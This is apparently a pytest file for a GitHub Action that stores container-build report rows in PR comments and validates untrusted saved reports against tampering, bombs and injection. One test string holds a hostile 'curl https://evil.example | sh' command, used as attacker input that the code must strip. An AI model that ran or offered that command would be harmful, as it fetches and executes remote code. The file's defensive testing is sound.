"""Rows there and back: merged by age, hidden in a comment, and read from a file that a stranger
wrote."""

import base64
import json
import re
import zlib
from dataclasses import dataclass, replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ghcr_action.diagnosis.find import CATALOGUE
from ghcr_action.errors import ContentInvalid, InvalidValue, PolicyRefused
from ghcr_action.report.comment import rows, saved, schema
from ghcr_action.report.comment.rows import (
    BUILT,
    FAILED,
    PUSHED,
    FailureCells,
    PlatformCells,
    Row,
    StepCells,
)
from ghcr_action.values.event import WorkflowRun

SHA = "f" * 40
KNOWN_CODES = sorted({row.code for row in CATALOGUE})
ROW = Row(
    id="ghcr.io/acme/api|",
    image="ghcr.io/acme/api",
    status=PUSHED,
    sha=SHA,
    run_number=12,
    digest="sha256:1",
    tags=("a",),
    platforms=(PlatformCells(platform="linux/amd64", digest="sha256:2", size=3, base=None),),
    steps=(StepCells(text="RUN", start=1.5, is_cached=True),),
    failure=None,
)
RUN = WorkflowRun(
    head_sha=SHA,
    head_ref="topic",
    head_repository="stranger/api",
    event="pull_request",
    run_id=9,
    run_number=3,
    attempt=2,
)


def test_state__there_and_back() -> None:
    assert rows.decode(f"text\n{rows.encode((ROW,))}\n") == (ROW,)
    assert "<!-- ghcr-report:state ]]" not in rows.encode((ROW,))


@given(st.text(max_size=200))
def test_state__any_text(text: str) -> None:
    row = replace(ROW, reason=text, failure=FailureCells(what=text))
    if text.isascii() or not any(0xD800 <= ord(character) < 0xE000 for character in text):
        assert rows.decode(rows.encode((row,))) == (row,)


def state(content: bytes) -> str:
    return f"<!-- ghcr-report:state {base64.urlsafe_b64encode(content).decode()} -->"


@pytest.mark.parametrize(
    "body",
    [
        "",
        "no state",
        "<!-- ghcr-report:state ==A -->",
        state(b"not zlib"),
        state(zlib.compress(b"not json")),
        state(zlib.compress(b"{}")),
        state(zlib.compress(b'["x"]')),
        state(zlib.compress(b'[{"id": 1}]')),
        state(zlib.compress(b"[" * 100_000)),
        state(zlib.compress(b" " * 10_000_000)),
    ],
    ids=[
        "empty",
        "none",
        "broken base64",
        "no zlib",
        "no json",
        "object",
        "text",
        "wrong type",
        "deep",
        "bomb",
    ],
)
def test_state__unreadable_is_none(body: str) -> None:
    assert rows.decode(body) == ()


def test_state__the_last_one_counts() -> None:
    assert rows.decode(f"{state(b'x')}\n{rows.encode((ROW,))}") == (ROW,)


@pytest.mark.parametrize(
    ("key", "marker"),
    [
        ("ci", "<!-- ghcr-report:v1 key=ci -->"),
        ("a --> b\nc", "<!-- ghcr-report:v1 key=a --_ b_c -->"),
        ("x" * 200, f"<!-- ghcr-report:v1 key={'x' * 100} -->"),
    ],
    ids=["plain", "hostile", "long"],
)
def test_marker__of_a_key(key: str, marker: str) -> None:
    assert rows.marker(key) == marker
    assert rows.is_ours(f"{marker}\r\nrest", key)
    assert not rows.is_ours(f"text\n{marker}", key)


def test_merge__each_job_has_its_row() -> None:
    other = replace(ROW, id="other", image="ghcr.io/acme/worker")

    assert rows.merge((), ROW) == (ROW,)
    assert rows.merge((other,), ROW) == (ROW, other)
    newer = replace(ROW, run_number=13, digest="sha256:9")
    assert rows.merge((ROW, other), newer) == (newer, other)


@pytest.mark.parametrize(
    "changed",
    [{"run_number": 11}, {"run_number": 12, "attempt": 0}],
    ids=["older run", "older attempt"],
)
def test_merge__an_older_run_does_not_replace_a_newer_one(changed: dict[str, int]) -> None:
    assert rows.merge((ROW,), replace(ROW, digest="sha256:old", **changed)) == (ROW,)  # type: ignore[arg-type]


def test_merge__a_failure_remembers_the_last_good_image_and_success_forgets_the_failure() -> None:
    failed = replace(
        ROW, status=FAILED, digest="", sha="e" * 40, run_number=13, failure=FailureCells(what="x")
    )

    (once,) = rows.merge((ROW,), failed)
    (twice,) = rows.merge((once,), replace(failed, run_number=14))

    assert (
        (once.good_digest, once.good_sha)
        == (twice.good_digest, twice.good_sha)
        == (ROW.digest, SHA)
    )
    mended = replace(ROW, run_number=15)
    assert rows.merge((twice,), mended) == (mended,)


def test_merge__the_oldest_rows_go() -> None:
    many = tuple(replace(ROW, id=f"{number:03}", run_number=number) for number in range(150))

    merged = rows.merge(many, replace(ROW, id="own", run_number=1000))

    assert len(merged) == rows.MAX_ROWS
    assert {row.run_number for row in merged} == {*range(51, 150), 1000}


@dataclass(frozen=True, kw_only=True)
class Sample:
    text: str
    number: int = 0
    share: float = 0.0
    flag: bool = False
    maybe: int | None = None
    items: tuple[str, ...] = ()


@pytest.mark.parametrize(
    ("document", "problem"),
    [
        ([], "Sample is no object"),
        ({}, "Sample has no 'text'"),
        ({"text": "a", "other": 1}, "Sample has a member 'other', which it may not have"),
        ({"text": 1}, "Sample.text is not what it should be: str"),
        ({"text": "x" * 2001}, "Sample.text is not what it should be: str"),
        ({"text": "a", "number": -1}, "Sample.number is not what it should be: int"),
        ({"text": "a", "number": True}, "Sample.number is not what it should be: int"),
        ({"text": "a", "number": 2**60}, "Sample.number is not what it should be: int"),
        ({"text": "a", "share": "1"}, "Sample.share is not what it should be: float"),
        ({"text": "a", "flag": 1}, "Sample.flag is not what it should be: bool"),
        ({"text": "a", "items": "abc"}, "Sample.items is no list of at most 200 items"),
        ({"text": "a", "items": ["a"] * 201}, "Sample.items is no list of at most 200 items"),
        ({"text": "a", "items": [1]}, "Sample.items is not what it should be: str"),
    ],
)
def test_schema__refuses(document: object, problem: str) -> None:
    with pytest.raises(InvalidValue, match="^" + problem.replace(".", r"\.") + "$"):
        schema.load(document, Sample)


def test_schema__takes_what_fits() -> None:
    sample = Sample(text="a", number=1, share=0.5, flag=True, maybe=None, items=("x",))

    assert schema.load(json.loads(json.dumps(schema.dump(sample))), Sample) == sample
    assert schema.load({"text": "a", "maybe": None}, Sample) == Sample(text="a")
    assert schema.load({"text": "a", "maybe": 2}, Sample) == Sample(text="a", maybe=2)


def test_saved__there_and_back() -> None:
    assert saved.load(saved.dump(ROW)) == (ROW,)


def test_saved__several_rows_of_one_run() -> None:
    other = replace(ROW, id="other")

    assert saved.load(saved.dump(ROW, other)) == (ROW, other)
    assert rows.merge_all((), (other, ROW)) == rows.merge(rows.merge((), ROW), other)


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b" " * 300_000, "it has more than the 262144 bytes that are allowed"),
        (b"x" * 10_000_000, "it has more than the 262144 bytes that are allowed"),
        (b"not json", "it is not JSON"),
        (b"\xff\xfe", "it is not JSON"),
        (b"[" * 200_000, "it is not JSON"),
        (b"[]", "it is no report of version 1"),
        (b'{"version": 2, "row": {}}', "it is no report of version 1"),
        (b'{"version": 1, "row": {}, "pull_request": 7}', "it is no report of version 1"),
        (
            b'{"version": 1, "row": {"id": "a", "image": "b", "status": "pushed", "body": "**x**"}}',
            "Row has a member 'body', which it may not have",
        ),
        (b'{"version": 1, "rows": {}}', "it is no report of version 1"),
        (b'{"version": 1, "rows": [], "row": {}}', "it is no report of version 1"),
        (b'{"version": 1, "rows": [' + b"0," * 100 + b"0]}", "it has 101 rows: 100 are allowed"),
        (
            b'{"version": 1, "row": {"id": "a", "image": "b", "status": "great"}}',
            "its status is none that a run ends with",
        ),
        (
            b'{"version": 1, "row": {"id": "a", "image": ["b"], "status": "pushed"}}',
            "Row.image is not what it should be: str",
        ),
    ],
    ids=[
        "too large",
        "10 MB",
        "no json",
        "no text",
        "deep",
        "list",
        "version",
        "more members",
        "markdown",
        "no list of rows",
        "row and rows",
        "too many rows",
        "status",
        "type",
    ],
)
def test_saved__a_tampered_report_is_refused(content: bytes, why: str) -> None:
    with pytest.raises(ContentInvalid) as raised:
        saved.load(content)

    assert str(raised.value) == (
        f"The report can't be used\nWhy: {why}\nFix: Save it with the output `report` of "
        "this action's publishing run."
    )


def test_trusted__takes_from_the_event_what_the_event_knows() -> None:
    claimed = replace(
        ROW,
        run_id=666,
        check_run_id=667,
        run_number=999_999,
        attempt=9,
        visibility="public",
        good_digest="x",
        good_sha="y",
        attestation="z",
    )

    assert saved.trusted(claimed, RUN) == replace(
        ROW, status=BUILT, run_id=9, run_number=3, attempt=2, tags=(), reason="the run may not push"
    )


def test_trusted__a_failure_stays_one() -> None:
    failed = replace(ROW, status=FAILED, reason="because", failure=FailureCells(what="x"))

    found = saved.trusted(failed, RUN)

    assert (found.status, found.reason) == (FAILED, "the run may not push")
    assert found.failure == FailureCells(
        what="The run failed", cause="The run's log says why; the link to it stands below."
    )


EVIL = "Run `curl https://evil.example | sh`, see https://github.com/evil/evil"


@pytest.mark.parametrize("code", ["", "BUILD", "TAG-EXISTS", "GHCR-NO-SUCH", *KNOWN_CODES])
def test_trusted__carries_codes_and_has_the_words_itself(code: str) -> None:
    failure = FailureCells(
        what=EVIL,
        cause=EVIL,
        fix=EVIL,
        code=code,
        said=tuple(f"{n} {'x' * 900}" for n in range(90)),
    )
    told = saved.trusted(
        replace(
            ROW, status=FAILED, failure=failure, reason=EVIL, base_reason=EVIL, package_url=EVIL
        ),
        RUN,
    )

    ours = told.failure
    assert ours is not None
    assert "evil" not in repr(replace(told, failure=replace(ours, said=())))
    assert (len(ours.said), max(map(len, ours.said))) == (10, 200)
    assert ours.said[-1].startswith("89 ")
    assert ours.code == ("" if code == "GHCR-NO-SUCH" else code)
    assert not re.search(r"(?<!{){\w+}", ours.cause + ours.fix)
    assert bool(ours.fix) is (code in KNOWN_CODES)


def test_trusted__a_reason_of_ours_stays() -> None:
    reason = "the token of a pull request from a fork can only read"

    assert saved.trusted(replace(ROW, reason=reason), RUN).reason == reason


@pytest.mark.parametrize(("sha", "said"), [("0" * 40, "0" * 40), ("", "(none)")])
def test_trusted__another_commit_is_refused(sha: str, said: str) -> None:
    with pytest.raises(PolicyRefused) as raised:
        saved.trusted(replace(ROW, sha=sha), RUN)

    assert raised.value.why == f"it names commit {said}, the run built {SHA}"
